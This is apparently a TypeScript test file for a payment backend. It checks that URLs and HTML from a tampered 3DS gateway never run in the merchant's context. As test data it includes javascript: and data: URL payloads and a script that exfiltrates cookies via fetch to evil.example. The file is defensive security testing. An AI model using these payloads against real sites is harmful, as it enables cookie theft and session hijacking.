/**
 * Proof: nothing from the gateway runs as the merchant (only https, or loopback http, gateway URLs
 * are followed; `html` is served by the backend: docs/gateway.md#merchant-side-3ds,
 * docs/gateway.md#gateway-driven-3ds). The sandbox's answers are rewritten in transit, as a hostile
 * or broken gateway would send them: `javascript:`, `data:` and plain-http URLs in `acs-url`,
 * `three-ds-method-url`, `redirect-to` and the hosted form's `redirect-url`, and a script in
 * `html`. Each attack is asserted to reach no browser: the widget API never answers those URLs, the
 * error is logged, the order stays as it was (pending, polled on), and the honest status that
 * follows takes the payment to its real end. The `html` reaches the widget only as the address of
 * the backend's own page, which serves it under a strict CSP.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { NextAction } from '../../contract/api-types.js';
import type { FetchLike } from '../../server/src/gateway/index.js';
import {
  card,
  createSession,
  MERCHANT_ORIGIN,
  merchant,
  type Pair,
  Shopper,
  snapshotTables,
  startPair,
  waitFor,
} from './support/proof.js';

/** Every 3DS instruction a status may carry (any spelling): a rewrite replaces them all. */
const THREE_DS_FIELDS = [
  'three-ds-server-trans-id',
  'three-ds-method-url',
  'acs-url',
  'creq',
  'pareq',
  'md',
  'challenge-window-size',
  'html',
  'redirect-to',
];
const canonical = (name: string) => name.toLowerCase().replaceAll('_', '-');

/** The gateway's answer with `fields` set (and, for a status, its own 3DS fields removed). */
function rewrite(text: string, fields: Record<string, string>, dropThreeDs: boolean): string {
  const json = text.trim().startsWith('{');
  const body: Record<string, string> = json
    ? JSON.parse(text)
    : Object.fromEntries(new URLSearchParams(text));
  for (const name of Object.keys(body)) {
    const c = canonical(name);
    if ((dropThreeDs && THREE_DS_FIELDS.includes(c)) || c in fields) delete body[name];
  }
  Object.assign(body, fields);
  return json ? JSON.stringify(body) : new URLSearchParams(body).toString();
}

const THREE_DS_CARD = card('3ds2-challenge');

describe('gateway values never run as the merchant', () => {
  let pair: Pair;
  /** While set, answers of the gateway path containing `path` are rewritten. */
  let tamper: { path: string; fields: Record<string, string> } | null = null;
  let tampered = 0;

  const gatewayFetch: FetchLike = async (url, init) => {
    const res = await fetch(url, init);
    const t = tamper;
    if (!t || !url.includes(t.path)) return res;
    const text = rewrite(await res.text(), t.fields, t.path === '/status/');
    tampered += 1;
    return { status: res.status, headers: res.headers, text: async () => text };
  };

  before(async () => {
    pair = await startPair({}, { gatewayFetch });
  });
  after(async () => {
    tamper = null;
    await pair.close();
  });

  /** Log lines of one order at `error` saying a gateway URL was refused. */
  const refusals = (where: { orderId?: string; operationId?: string }) =>
    pair.be.logs
      .map((line) => JSON.parse(line) as Record<string, unknown>)
      .filter(
        (e) =>
          e.level === 50 &&
          String(e.msg).startsWith('gateway URL refused') &&
          (where.orderId === undefined || e.orderId === where.orderId) &&
          (where.operationId === undefined || e.operationId === where.operationId),
      )
      .map((e) => ({ field: e.field, url: e.url }));

  /** The backend's warnings and errors about one order, for a failure message. */
  const orderLog = (orderId: string) =>
    pair.be.logs.filter((line) => line.includes(orderId) && /"level":(40|50)/.test(line));

  const orderRow = async (clientOrderId: string) => {
    const order = await pair.store.orders.getByClientOrderId(clientOrderId);
    assert.ok(order);
    return order;
  };

  const attacks: { name: string; fields: Record<string, string>; field: string; url: string }[] = [
    {
      name: 'a javascript: acs-url (3DS 2 challenge)',
      fields: { status: 'processing', 'acs-url': 'javascript:alert(1)//', creq: 'Q1JFUQ' },
      field: 'acs-url',
      url: 'javascript:alert(1)//',
    },
    {
      name: 'a plain-http acs-url (3DS 1.0.2)',
      fields: {
        status: 'processing',
        'acs-url': 'http://evil.example/pareq',
        pareq: 'UEFSRVE',
        md: 'md-1',
      },
      field: 'acs-url',
      url: 'http://evil.example/pareq',
    },
    {
      name: 'a data: three-ds-method-url',
      fields: {
        status: 'processing',
        'three-ds-server-trans-id': '3d671629-a410-4a5d-9288-b38ceadd41f2',
        'three-ds-method-url': 'data:text/html,<script>parent.document.title="pwned"</script>',
      },
      field: 'three-ds-method-url',
      url: 'data:text/html,<script>parent.document.title="pwned"</script>',
    },
    {
      name: 'a javascript: redirect-to',
      fields: { status: 'processing', 'redirect-to': 'javascript:alert(document.cookie)' },
      field: 'redirect-to',
      url: 'javascript:alert(document.cookie)',
    },
    {
      name: 'a plain-http redirect-to to another host',
      fields: { status: 'processing', 'redirect-to': 'http://evil.example/' },
      field: 'redirect-to',
      url: 'http://evil.example/',
    },
  ];

  for (const attack of attacks) {
    it(`refuses ${attack.name}: nothing reaches the widget, the order waits, the honest status ends it`, async () => {
      const session = await createSession(pair.be.url);
      const shopper = new Shopper(pair.be.url, session.token);
      tamper = { path: '/status/', fields: attack.fields };
      tampered = 0;
      const answers: NextAction[] = [await shopper.pay(THREE_DS_CARD)];
      const before = await orderRow(session.orderId);
      const tables = await snapshotTables(pair.db, ['merchant_webhooks', 'merchant_operations']);
      for (let i = 0; i < 3; i++) answers.push(await shopper.next(1));

      // The gateway did answer the attack, again and again (the backend kept polling).
      assert.ok(tampered >= 3, `tampered answers: ${tampered}`);
      for (const a of answers) {
        assert.equal(a.action, 'wait', JSON.stringify(a));
        assert.ok(!JSON.stringify(a).includes(attack.url), JSON.stringify(a));
      }
      // Each refused answer is logged at error. Waited for, asking again meanwhile: under load the
      // last poll may still be folded in when the long poll answers, or may have failed (a failed
      // poll changes nothing and is only logged at warn). Asked at a pace the session's request
      // limit (120 a minute) allows, however long the machine takes.
      const refused = await waitFor(
        'the refusals in the log',
        async () => {
          const lines = refusals({ orderId: before.id });
          if (lines.length > 0) return lines;
          answers.push(await shopper.next(0));
          return undefined;
        },
        {
          timeoutMs: 30_000,
          everyMs: 500,
          explain: () => `tampered: ${tampered}; the order's log: ${orderLog(before.id).join('')}`,
        },
      );
      for (const r of refused) assert.deepEqual(r, { field: attack.field, url: attack.url });

      // Unchanged: the same row (same version), still pending, nothing recorded of the URL.
      const afterAttack = await orderRow(session.orderId);
      assert.deepEqual(afterAttack, before);
      assert.equal(afterAttack.status, 'processing');
      assert.equal(afterAttack.threeDsMethodUrl, null);
      assert.deepEqual((afterAttack.nextAction as { next: unknown }).next, {
        action: 'wait',
        retryAfterMs: 1000,
      });
      assert.deepEqual(
        await snapshotTables(pair.db, ['merchant_webhooks', 'merchant_operations']),
        tables,
      );
      assert.equal((await shopper.call('GET', '/session')).body.state, 'paying');

      // The gateway answers honestly again: the payment goes through 3DS to its real outcome.
      tamper = null;
      const final = await shopper.complete(THREE_DS_CARD, await shopper.next(2));
      assert.equal(final.action, 'final');
      assert.equal(final.order.status, 'approved');
      assert.deepEqual(shopper.steps, ['method', 'challenge', 'final']);
    });
  }

  it("serves a gateway html only from the backend's own page, under its CSP; the honest status ends it", async () => {
    const evil =
      '<script>parent.document.body.innerHTML="pwned";fetch("https://evil.example/?c="+parent.document.cookie)</script>';
    const session = await createSession(pair.be.url);
    const shopper = new Shopper(pair.be.url, session.token);
    tamper = { path: '/status/', fields: { status: 'processing', html: evil } };
    const first = await shopper.until(await shopper.pay(THREE_DS_CARD));
    const order = await orderRow(session.orderId);
    const pageUrl = `${pair.be.url}/gateway-page/${order.returnRef}`;
    // The widget gets our pages' addresses (the launcher frames the gateway page), not the markup.
    const launchUrl = (first as { launchUrl?: string }).launchUrl ?? '';
    assert.match(
      launchUrl,
      new RegExp(`^${pair.be.url}/launch/${order.returnRef}/[A-Za-z0-9_-]{22}$`),
    );
    assert.deepEqual(first, {
      action: 'html',
      url: pageUrl,
      launchUrl,
      order: first.order,
    });
    assert.equal(new URL((first as { url: string }).url).origin, pair.be.url);
    assert.ok(!JSON.stringify(first).includes('<script'));
    assert.ok(!JSON.stringify(await shopper.next(1)).includes('<script'));

    const page = await fetch(pageUrl, { headers: { Origin: MERCHANT_ORIGIN } });
    assert.equal(page.status, 200);
    assert.equal(await page.text(), evil);
    const csp = page.headers.get('content-security-policy') ?? '';
    assert.match(csp, /^default-src 'none'; /);
    assert.match(csp, /; sandbox allow-forms allow-scripts; /);
    assert.match(csp, new RegExp(`; frame-ancestors 'self' ${MERCHANT_ORIGIN}$`));
    assert.doesNotMatch(csp, /connect-src|allow-same-origin|allow-top-navigation/);

    tamper = null;
    const final = await shopper.complete(THREE_DS_CARD, await shopper.until(await shopper.next(2)));
    assert.equal(final.action, 'final');
    assert.equal(final.order.status, 'approved');
    // Past that step, the page is gone.
    assert.equal((await fetch(pageUrl)).status, 404);
  });

  it('refuses a javascript: hosted form address: the order waits, and its status sends the shopper to the real form', async () => {
    const session = await createSession(pair.be.url);
    const shopper = new Shopper(pair.be.url, session.token);
    const url = 'javascript:alert(1)//';
    tamper = { path: '/sale-form/', fields: { 'redirect-url': url } };
    tampered = 0;
    const res = await shopper.call('POST', '/hosted', {});
    tamper = null;
    assert.equal(res.status, 200, JSON.stringify(res.body));
    assert.equal(tampered, 1);
    assert.equal(res.body.action, 'wait');
    assert.ok(!JSON.stringify(res.body).includes(url));
    const order = await orderRow(session.orderId);
    assert.deepEqual(refusals({ orderId: order.id }), [{ field: 'redirect-url', url }]);
    assert.equal(order.status, 'processing');
    // The gateway's status names its form (its own, honest address): that one is followed.
    const next = await shopper.until(await shopper.next(2));
    assert.equal(next.action, 'redirect');
    assert.ok((next as { url: string }).url.startsWith(`${pair.sb.origin}/`), JSON.stringify(next));
  });

  it('refuses a plain-http hosted form address on the merchant API: 502, and nothing kept to send anyone to', async () => {
    const url = 'http://evil.example/form';
    const orderId = `hf-${Date.now().toString(36)}`;
    // Which rows exist (earlier tests' orders may still be moved on by their late callbacks).
    const rowIds = async () => ({
      orders: (await pair.db.query('select id from orders order by id')).rows,
      sessions: (await pair.db.query('select id from checkout_sessions order by id')).rows,
    });
    const before = await rowIds();
    tamper = { path: '/sale-form/', fields: { 'redirect-url': url } };
    tampered = 0;
    const logFrom = pair.be.logs.length;
    const res = await merchant(pair.be.url, 'POST', '/v1/hosted-forms', {
      kind: 'sale',
      orderId,
      amount: '10.00',
      currency: 'EUR',
      customer: { email: 'a@b.example' },
      returnUrl: `${MERCHANT_ORIGIN}/back`,
    });
    tamper = null;
    const op = await pair.store.operations.getByClientId('hosted-form', orderId);
    assert.ok(op);
    // On a failure, what the backend said about this operation.
    const explain = `${JSON.stringify(res.body)}\n${pair.be.logs
      .slice(logFrom)
      .filter((l) => /"level":(40|50)/.test(l))
      .join('')}`;
    assert.equal(tampered, 1, explain);
    assert.equal(res.status, 502, explain);
    assert.equal(res.body.error.code, 'gateway');
    assert.ok(!JSON.stringify(res.body).includes(url));
    assert.equal(op.data.url, undefined);
    assert.deepEqual(refusals({ operationId: op.id }), [{ field: 'redirect-url', url }], explain);
    assert.deepEqual(await rowIds(), before);
  });
});
